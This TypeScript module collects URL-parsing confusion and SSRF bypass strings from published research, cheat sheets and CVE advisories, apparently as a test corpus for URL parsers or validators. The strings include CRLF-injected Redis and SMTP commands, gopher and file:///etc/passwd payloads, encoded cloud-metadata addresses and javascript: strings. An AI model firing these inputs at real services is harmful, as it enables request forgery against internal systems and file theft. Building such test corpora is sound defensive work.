// Inputs that are published as tricks: what one parser takes for a harmless URL, another one reads
// with a different scheme, host or port.

export interface Source {
  readonly title: string;
  readonly url: string;
  readonly inputs: readonly string[];
}

const orangeTsai: Source = {
  title: 'A New Era of SSRF, Orange Tsai, 2017',
  url: 'https://www.blackhat.com/docs/us-17/thursday/us-17-Tsai-A-New-Era-Of-SSRF-Exploiting-URL-Parser-In-Trending-Programming-Languages.pdf',
  inputs: [
    'http://1.1.1.1 &@2.2.2.2# @3.3.3.3/',
    'http://127.0.0.1:11211:80/',
    'http://google.com#@evil.com/',
    'http://foo@evil.com:80@google.com/',
    'http://foo@127.0.0.1:11211@google.com:80/',
    'http://foo@127.0.0.1 @google.com/',
    'http://127.0.0.1\r\nSLAVEOF inaddr.example 6379\r\n:6379/',
    'http://0\r\n:6379/',
    'https://127.0.0.1 \r\nHELO inaddr.example\r\nMAIL FROM:/:25/',
    'http://127.0.0.1:6379/%0D%0ASLAVEOF%20inaddr.example%206379%0D%0A',
    'http://inaddr.example/sandbox/\uFF2E\uFF2E/passwd',
    'http://www.wordpre\u00DF.com/',
    'http://g\u200Doogle.com/',
  ],
};

const urlConfusion: Source = {
  title: 'Exploiting URL Parsing Confusion, Claroty and Snyk, 2022',
  url: 'https://claroty.com/team82/research/exploiting-url-parsing-confusion',
  inputs: [
    'google.com/abc',
    'http:///google.com/',
    'http:/google.com/',
    'http:google.com/',
    'http:////google.com/',
    'http:\\\\google.com/',
    'http:\\google.com/',
    'http://google.com\\@evil.com/',
    'https://evil.com\\@google.com/',
    'http://%67oogle.com/',
    'http://google%2ecom/',
    'http://google.com%2f@evil.com/',
    'ldap://127.0.0.1#.evilhost.com:1389/a',
    'http://127.0.0.1%2f%2e%2e/',
    '//evil.com',
    '///evil.com',
    'http:///////evil.com',
  ],
};

const payloads: Source = {
  title: 'PayloadsAllTheThings, Server Side Request Forgery',
  url: 'https://github.com/swisskyrepo/PayloadsAllTheThings/tree/master/Server%20Side%20Request%20Forgery',
  inputs: [
    'http://[::]:80/',
    'http://0000::1:80/',
    'http://[0000::1]:80/',
    'http://[0:0:0:0:0:ffff:127.0.0.1]/',
    'http://[::ffff:127.0.0.1]/',
    'http://[::ffff:7f00:1]/',
    'http://127.127.127.127/',
    'http://127.0.1.3/',
    'http://0/',
    'http://127.1/',
    'http://127.0.1/',
    'http://0177.0.0.1/',
    'http://o177.0.0.1/',
    'http://0o177.0.0.1/',
    'http://q177.0.0.1/',
    'http://2130706433/',
    'http://3232235521/',
    'http://2852039166/',
    'http://7147006462/',
    'http://0x7f000001/',
    'http://0xc0a80014/',
    'http://0xA9FEA9FE/',
    'http://0x41414141A9FEA9FE/',
    'http://0251.0376.0251.0376/',
    'http://0251.00376.000251.0000376/',
    'http://0xA9.0xFE.0xA9.0xFE/',
    'http://425.510.425.510/',
    'http://0251.254.169.254/',
    'http://[::ffff:a9fe:a9fe]/',
    'http://\u2460\u2461\u2466.\u24EA.\u24EA.\u2460/',
    'http://\u24D4\u24E7\u24D0\u24DC\u24DF\u24DB\u24D4.\u24D2\u24DE\u24DC/',
    'http://127\u30020\u30020\u30021/',
    'http://127.1.1.1:80\\@127.2.2.2:80/',
    'http://127.1.1.1:80\\@@127.2.2.2:80/',
    'http://127.1.1.1:80:\\@@127.2.2.2:80/',
    'http://127.1.1.1:80#\\@127.2.2.2:80/',
    'http://\u00DF\u00DF.example/',
    '0://evil.com:80;http://google.com:80/',
    'gopher://127.0.0.1:25/_HELO%20localhost',
    'netdoc:///etc/passwd',
    'jar:http://127.0.0.1!/',
    'url:file:///etc/passwd',
  ],
};

const bypasses: Source = {
  title: 'URL validation bypass cheat sheet, PortSwigger',
  url: 'https://portswigger.net/web-security/ssrf/url-validation-bypass-cheat-sheet',
  inputs: [
    'https://good.example&@evil.example/',
    'https://good.example@evil.example/',
    'https://good.example@@evil.example/',
    'https://good.example:443#@evil.example/',
    'https://evil.example#good.example/',
    'https://evil.example?good.example/',
    'https://evil.example?@good.example/',
    'https://evil.example\\good.example/',
    'https://evil.example\\.good.example/',
    'https://evil.example;@good.example/',
    'https://evil.example;good.example/',
    'https://evil.example%00.good.example/',
    'https://evil.example%09.good.example/',
    'https://evil.example%0a.good.example/',
    'https://evil.example%20.good.example/',
    'https://evil.example%23@good.example/',
    'https://evil.example%2f@good.example/',
    'https://evil.example%3f@good.example/',
    'https://evil.example%5c@good.example/',
    'https://evil.example\t.good.example/',
    'https://evil.example\n.good.example/',
    'https://evil.example .good.example/',
    'https://evil.example{.good.example/',
    'https://evil.example|.good.example/',
    'https://evil.example`.good.example/',
    'https://evil.example^.good.example/',
    "https://evil.example'.good.example/",
    'https://evil.example".good.example/',
    'https://evil.example<.good.example/',
    'https://evil.example*.good.example/',
    'https://evil.example(.good.example/',
    'https://evil.example,.good.example/',
    'https://evil.example=.good.example/',
    'https://evil.example+.good.example/',
    'https://evil.example!.good.example/',
    'https://evil.example$.good.example/',
    'https://evil.example~.good.example/',
    'https://evil.example_.good.example/',
    'https://[evil.example]/',
    'https://[good.example@evil.example/',
    'https://good.example]@evil.example/',
    'https://[good.example]@evil.example/',
    'http://[::1]attacker.com/',
    'https:evil.example',
    'https:/evil.example',
    '\u0001https://evil.example/',
    ' https://evil.example/',
    '\u00A0https://evil.example/',
    'ht\ntps://evil.example/',
    'java\tscript:alert(1)',
    'javascript://good.example/%0Aalert(1)',
    'javascript:alert(1)//good.example',
    'http://evil.example:65616/',
    'http://evil.example:0080/',
    'http://evil.example:8\uFF10/',
    'http://evil.example:+80/',
    'http://evil.example: 80/',
    'http://evil.example:80a/',
  ],
};

const normalization: Source = {
  title: 'urlsplit does not handle NFKC normalization, Python issue 36216',
  url: 'https://bugs.python.org/issue36216',
  inputs: [
    'http://evil.example\uFF0Fgood.example/',
    'http://evil.example\uFF03@good.example/',
    'http://evil.example\uFF1Fgood.example/',
    'http://good.example\uFF20evil.example/',
    'http://evil.example\uFF1A80/',
    'http://evil.example\u2100.good.example/',
    'http://evil.example\uFE5F.good.example/',
    'http://evil.example\uFF3C.good.example/',
  ],
};

const advisories: readonly Source[] = [
  {
    title: 'CVE-2022-27780, curl',
    url: 'https://curl.se/docs/CVE-2022-27780.html',
    inputs: ['http://example.com%2F127.0.0.1/', 'http://example.com%3F127.0.0.1/'],
  },
  {
    title: 'CVE-2019-14809, Go',
    url: 'https://github.com/golang/go/issues/29098',
    inputs: [
      "javascript://%250aalert(1)+'aa@google.com/a'a",
      'http://[::1]namedport/',
      'http://google.com:80evil.com/',
    ],
  },
  {
    title: 'CVE-2024-11168, Python',
    url: 'https://nvd.nist.gov/vuln/detail/CVE-2024-11168',
    inputs: ['https://user@[v1.example]/', 'https://[127.0.0.1]/', 'https://prefix.[::1].example/'],
  },
];

/** Where the inputs come from. */
export const sources: readonly Source[] = [
  ...[orangeTsai, urlConfusion, payloads, bypasses, normalization],
  ...advisories,
];

/** All inputs, each once. */
export const tricks: readonly string[] = [...new Set(sources.flatMap(({ inputs }) => inputs))];
